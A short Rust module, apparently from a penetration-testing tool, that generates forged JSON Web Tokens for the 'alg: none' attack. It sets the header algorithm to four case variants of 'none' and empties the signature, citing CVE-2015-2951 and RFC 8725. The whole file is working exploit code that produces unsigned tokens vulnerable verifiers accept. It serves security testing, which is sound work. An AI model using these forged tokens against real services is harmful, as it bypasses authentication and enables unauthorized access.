//! `alg: none` in its letter-case variants, signature empty (`h.p.`): a verifier that takes the
//! algorithm from the token accepts it unsigned (CVE-2015-2951, RFC 8725 §3.1).

use serde_json::Value;

use super::{JwtAttack, JwtInputs, Variant};
use crate::jwt::forge::Draft;

/// The spellings jwt_tool and the WSTG try: libraries have compared `alg` case-sensitively.
pub const SPELLINGS: &[&str] = &["none", "None", "NONE", "nOnE"];

pub(super) fn variants(inputs: &JwtInputs<'_>) -> Result<Vec<Variant>, String> {
    let draft = Draft::from_token(inputs.token)?;
    Ok(SPELLINGS
        .iter()
        .map(|alg| {
            let mut forged = draft.clone();
            forged
                .header
                .insert("alg".to_owned(), Value::String((*alg).to_owned()));
            Variant::jwt(JwtAttack::AlgNone, Some(alg), forged.with_signature(""))
        })
        .collect())
}
